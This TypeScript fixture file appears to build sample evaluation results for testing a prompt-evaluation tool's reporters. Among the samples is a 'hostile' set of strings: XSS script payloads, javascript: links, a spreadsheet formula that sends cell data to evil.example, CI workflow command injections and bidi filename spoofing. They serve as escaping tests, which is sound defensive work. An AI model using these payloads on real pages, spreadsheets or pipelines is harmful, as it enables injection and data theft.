import type { CaseResult } from "../../src/core/eval/case-result.ts";
import { finishedVerdict } from "../../src/core/eval/evaluation-verdict.ts";
import type { EvaluationHeader } from "../../src/core/eval/evaluation-header.ts";
import type { EvidenceTotals } from "../../src/core/eval/evidence.ts";
import type { EvaluationReport, PromptReport } from "../../src/core/results/eval.ts";
import { evalReporters, type Asked, type EvalReporterName } from "../../src/reporters/eval/eval-reporter.ts";

export type Check = CaseResult["checks"][number];

export function check(given: Partial<Check> = {}): Check {
  return { type: "contains", score: 0, pass: false, weight: 1, reason: 'expected "fee"', ...given };
}

/** A result that failed, unless `given` says otherwise. */
export function result(given: { readonly [K in keyof CaseResult]?: CaseResult[K] | undefined } = {}): CaseResult {
  return without({
    index: 0,
    prompt: "billing/summarize",
    suite: "main",
    case: "late-fee",
    epoch: 1,
    case_digest: "d".repeat(64),
    status: "fail",
    score: 0,
    checks: [given.status === "pass" ? check({ score: 1, pass: true, reason: 'it contains "fee"' }) : check()],
    output: "Your invoice",
    latency_ms: 20,
    ...given,
  });
}

/** A key that is set to undefined is absent. */
function without(given: object): CaseResult {
  return Object.fromEntries(Object.entries(given).filter(([, value]) => value !== undefined)) as CaseResult;
}

export const evaluationId = "20261120T090000000Z-0123abcd";

/** The report of these results, each counted as a case of its own. @param models By label, where it is not `m/n`. */
export function reportOf(results: readonly CaseResult[], models: Readonly<Record<string, string>> = {}): EvaluationReport {
  const labels = [...new Set(results.map(({ prompt }) => prompt))];
  const of = (status: string) => results.filter((each) => each.status === status);
  const sample = (status: string) => ({ count: of(status).length, first: of(status).slice(0, 100) });
  return {
    id: evaluationId,
    verdict: finishedVerdict([totalsOf(results)]),
    results: `/r/.git/promptops/evaluations/${evaluationId}/results.jsonl`,
    prompts: labels.map((label): PromptReport => {
      const own = results.filter(({ prompt }) => prompt === label);
      const suites = [...new Set(own.map(({ suite }) => suite))];
      const model = models[label] ?? "m/n";
      return {
        label,
        prompt: label.replace(/[ @].*/, ""),
        prompt_digest: "a".repeat(64),
        model,
        model_digest: "b".repeat(64),
        models_answered: [...new Set(own.flatMap(({ model_answered }) => model_answered ?? []))].sort(),
        complete: true,
        totals: totalsOf(own),
        suites: suites.map((suite) => ({ suite, digest: "c".repeat(64), totals: totalsOf(own.filter((each) => each.suite === suite)) })),
      };
    }),
    failures: sample("fail"),
    errors: sample("error"),
    ...(of("pending").length === 0 ? {} : { pending: sample("pending") }),
  };
}

function totalsOf(results: readonly CaseResult[]): EvidenceTotals {
  const count = (status: string) => results.filter((each) => each.status === status).length;
  const scored = results.filter(({ status }) => status === "pass" || status === "fail");
  const mean = (values: readonly number[]) => (values.length === 0 ? 0 : values.reduce((sum, value) => sum + value, 0) / values.length);
  const latencies = results.flatMap(({ latency_ms }) => latency_ms ?? []);
  const metrics = Map.groupBy(
    results.flatMap(({ checks }) => checks),
    ({ metric }) => metric,
  );
  const codes = results.flatMap(({ findings = [] }) => [...new Set(findings.map(({ code }) => code))]).sort();
  const found = Object.fromEntries([...new Set(codes)].map((code) => [code, codes.filter((each) => each === code).length]));
  const costs = results.map(({ cost_nano_usd, output, cached }) => (cached === true || output === undefined ? 0 : cost_nano_usd));
  return {
    cases: results.length,
    passed: count("pass"),
    failed: count("fail"),
    errors: count("error"),
    ...(count("pending") === 0 ? {} : { pending: count("pending") }),
    mean_score: mean(scored.map(({ score }) => score)),
    ...(costs.includes(undefined) ? {} : { cost_nano_usd: costs.reduce<number>((sum, cost) => sum + (cost ?? 0), 0) }),
    ...(latencies.length === 0 ? {} : { mean_latency_ms: mean(latencies) }),
    calls: results.filter(({ output, cached }) => output !== undefined && cached !== true).length,
    cached: results.filter(({ cached }) => cached === true).length,
    metrics: Object.fromEntries([...metrics].flatMap(([name, checks]) => (name === undefined ? [] : [[name, mean(checks.map(({ score }) => score))]]))),
    ...(codes.length === 0 ? {} : { findings: found }),
  };
}

/** Of an evaluation of which nothing matters but its name. */
export const header: EvaluationHeader = {
  id: evaluationId,
  plan_digest: "e".repeat(64),
  plan: { prompts: [], asked: { suites: [], cases: [], tags: [], cache: true } },
  tasks: 0,
  started_at: "2026-11-20T09:00:00.000Z",
};

export interface ReportOptions {
  readonly width?: number;
  readonly color?: boolean;
  readonly endless?: boolean;
  readonly asked?: Asked;
  readonly models?: Readonly<Record<string, string>>;
  readonly report?: EvaluationReport;
  readonly header?: EvaluationHeader;
}

/** What a reporter writes of these results, in its pieces. */
export async function* reported(name: EvalReporterName, results: readonly CaseResult[], options: ReportOptions = {}): AsyncGenerator<string> {
  const {
    width = 80,
    color = false,
    endless = false,
    asked = { whole: true, maxCostUsd: undefined },
    models,
    report = reportOf(results, models),
    header: of = header,
  } = options;
  const stream = async function* () {
    yield* results;
  };
  const reporter = await evalReporters[name].load();
  yield* reporter({ report, header: of, asked, results: stream, screen: { width, color, endless }, version: "1.2.3" });
}

export async function reportedText(name: EvalReporterName, results: readonly CaseResult[], options: ReportOptions = {}): Promise<string> {
  return (await Array.fromAsync(reported(name, results, options))).join("");
}

const small = "billing/summarize (openai/gpt-5-mini)";
const large = "billing/summarize (anthropic/claude-opus-5)";
const released = "support/reply@1.2.0";

/** Asked for, by label. */
export const models: Readonly<Record<string, string>> = { [small]: "openai/gpt-5-mini", [large]: "anthropic/claude-opus-5", [released]: "openai/gpt-5" };

/** Texts that want to be more than text. */
export const hostile = {
  script: "</script><script>alert(1)</script><img src=x onerror=alert(2)><!--",
  link: "javascript:alert(3)",
  formula: '=HYPERLINK("https://evil.example?"&A1,"click")',
  command: "::error::no\n::set-output name=x::y ##[add-mask]x ##vso[task.setvariable variable=x]y",
  bidi: "safe\u202egnp.exe\u202c \u200b\u200b\u200bzero \u{e0068}\u{e0069}",
  binary: "\u0000\u0001\u0007\u001b[31mred\ud800",
  markdown: "``` **bold** [a](javascript:x) @team | cell",
  xml: "]]>&<a b='c'>\"",
} as const;

const summary = {
  good: "The customer was charged a late fee of $12 because the payment for invoice 4411 arrived nine days after it was due.\nThey ask for the fee to be waived as a courtesy.",
  expected: "The customer was charged a late fee of $12 because invoice 4411 was paid nine days late.\nThey ask us to waive the fee.",
  bad: "The customer was charged a late fee of $21 because invoice 4411 was paid nine weeks late.\nThey ask us to raise the fee.\nThey sound angry.",
} as const;

/** One of everything that a result can be, over three prompts of which two are one prompt asked with two models. */
export const everyKind: readonly CaseResult[] = [
  result({
    prompt: small,
    status: "pass",
    score: 1,
    case: "late-fee",
    output: summary.good,
    expected: summary.expected,
    tags: ["fees", "short"],
    cost_nano_usd: 1_240_000,
    latency_ms: 820,
  }),
  result({
    prompt: small,
    case: "double-charge",
    score: 0.25,
    must_pass: true,
    tags: ["fees"],
    group: "charges",
    output: summary.bad,
    expected: summary.expected,
    inputs: { ticket: "I paid invoice 4411 a little late and now there are $12 more on it. Please take them off.", tone: "formal" },
    checks: [
      check({ type: "output-contract", score: 1, pass: true, reason: "as promised", must_pass: true }),
      check({ metric: "facts", description: "names the amount", reason: 'expected "$12"' }),
      check({ type: "rubric", metric: "tone", score: 0.5, weight: 0.5, reason: "neutral: it calls the customer angry, which the ticket does not" }),
    ],
    cost_nano_usd: 1_310_000,
    latency_ms: 940,
    usage: { input: 412, output: 68, cached_input: 256, reasoning: 12 },
    model_answered: "gpt-5-mini-2026-08-07",
    judging: { calls: 1, cost_nano_usd: 400_000 },
    origin: { file: "prompts/billing/summarize/evals/main.yml", line: 14 },
  }),
  result({
    prompt: small,
    case: 'refund,"quoted"',
    status: "error",
    checks: [],
    output: undefined,
    latency_ms: undefined,
    error: { kind: "rate-limit", message: "429 after 3 attempts: slow down" },
    attempts: [
      { outcome: "rate-limit", status: 429, latency_ms: 210 },
      { outcome: "timeout", latency_ms: 60_000 },
    ],
    origin: { file: "prompts/billing/summarize/evals/main.yml", line: 21 },
  }),
  result({
    prompt: small,
    suite: "tools",
    case: "looks-up-invoice",
    status: "pass",
    score: 1,
    tags: ["tools"],
    output: '{"amount":12,"invoice":"4411"}',
    expected: '{"invoice":"4411","amount":12}',
    tool_calls: [{ name: "find_invoice", arguments: { number: "4411" } }],
    finish_reason: "tool-calls",
    cost_nano_usd: 2_000_000,
    latency_ms: 1_900,
    cached: true,
    checks: [check({ type: "tool-called", score: 1, pass: true, reason: "find_invoice was called" })],
  }),
  result({
    prompt: large,
    case: "late-fee",
    status: "pass",
    score: 1,
    output: summary.good,
    expected: summary.expected,
    tags: ["fees", "short"],
    cost_nano_usd: 9_800_000,
    latency_ms: 2_400,
  }),
  result({
    prompt: large,
    case: "double-charge",
    status: "pass",
    score: 0.9,
    must_pass: true,
    tags: ["fees"],
    group: "charges",
    output: summary.good,
    expected: summary.expected,
    cost_nano_usd: 9_900_000,
    latency_ms: 2_100,
    checks: [
      check({ metric: "facts", description: "names the amount", score: 1, pass: true, reason: 'it contains "$12"' }),
      check({ type: "rubric", metric: "tone", score: 0.8, pass: true, weight: 0.5, reason: "friendly" }),
    ],
  }),
  result({
    prompt: large,
    case: 'refund,"quoted"',
    status: "pending",
    score: 0,
    checks: [check({ type: "human", reason: "waits for a rating" })],
    output: "We could refund half of it.",
    latency_ms: 2_000,
    cost_nano_usd: 9_000_000,
  }),
  result({
    prompt: large,
    suite: "tools",
    case: "looks-up-invoice",
    score: 0,
    tags: ["tools"],
    output: '{"amount":21,"invoice":"4411","currency":"EUR"}',
    expected: '{"invoice":"4411","amount":12}',
    cost_nano_usd: 9_100_000,
    latency_ms: 31_000,
    origin: { file: "prompts/billing/summarize/evals/data/a b,c.csv", line: 3 },
    checks: [check({ type: "json-schema", reason: "the key `currency` is not allowed" })],
  }),
  result({
    prompt: released,
    suite: "safety",
    case: "refuses",
    status: "pass",
    score: 1,
    tags: ["safety"],
    output: "",
    refusal: "I cannot help with that.",
    latency_ms: 600,
    checks: [check({ type: "refusal", score: 1, pass: true, reason: "it refused" })],
    origin: { file: "prompts/support/reply/evals/safety.yml", line: 4 },
  }),
  result({
    prompt: released,
    suite: "safety",
    case: "hostile",
    epoch: 2,
    tags: ["safety"],
    inputs: { ticket: hostile.script, note: hostile.bidi, formula: hostile.formula },
    expected: hostile.markdown,
    output: Object.values(hostile).join("\n"),
    refusal: hostile.script,
    checks: [check({ description: hostile.command, metric: "a|b<c>", reason: hostile.script }), check({ type: "javascript", reason: hostile.xml })],
    citations: [
      { url: hostile.link, title: hostile.script },
      { url: "https://example.com/a?b=c&d=<e>", title: "A page" },
    ],
    tool_calls: [{ name: hostile.script, arguments: { "</script>": hostile.script } }],
    model_answered: hostile.script,
    latency_ms: 700,
    origin: { file: "prompts/support/reply/evals/safety.yml", line: 9 },
  }),
].map((each, index) => ({ ...each, index }));

/** So many results, nine of ten passed; with an answer of about `size` characters each. */
export function* many(count: number, size = 400): Generator<CaseResult> {
  for (let index = 0; index < count; index += 1) {
    const status = index % 10 === 3 ? "fail" : index % 97 === 0 ? "error" : "pass";
    const answer = `Answer ${index}: ${"the customer asks about a fee. ".repeat(Math.ceil(size / 31))}`.slice(0, size);
    yield {
      ...result({
        index,
        case: `case-${String(index).padStart(5, "0")}`,
        suite: index % 3 === 0 ? "main" : "more",
        status,
        score: status === "pass" ? 1 : (index % 7) / 10,
        latency_ms: 200 + ((index * 37) % 900),
        cost_nano_usd: 100_000 + index,
        tags: [`t${index % 8}`],
        inputs: { ticket: `ticket ${index}` },
        expected: "a fee",
      }),
      ...(status === "error"
        ? { checks: [], error: { kind: "timeout", message: "no answer in 60 s" } }
        : {
            output: answer,
            checks: [
              check({ score: status === "pass" ? 1 : 0, pass: status === "pass", reason: status === "pass" ? "it contains it" : "it does not contain it" }),
            ],
          }),
    };
  }
}
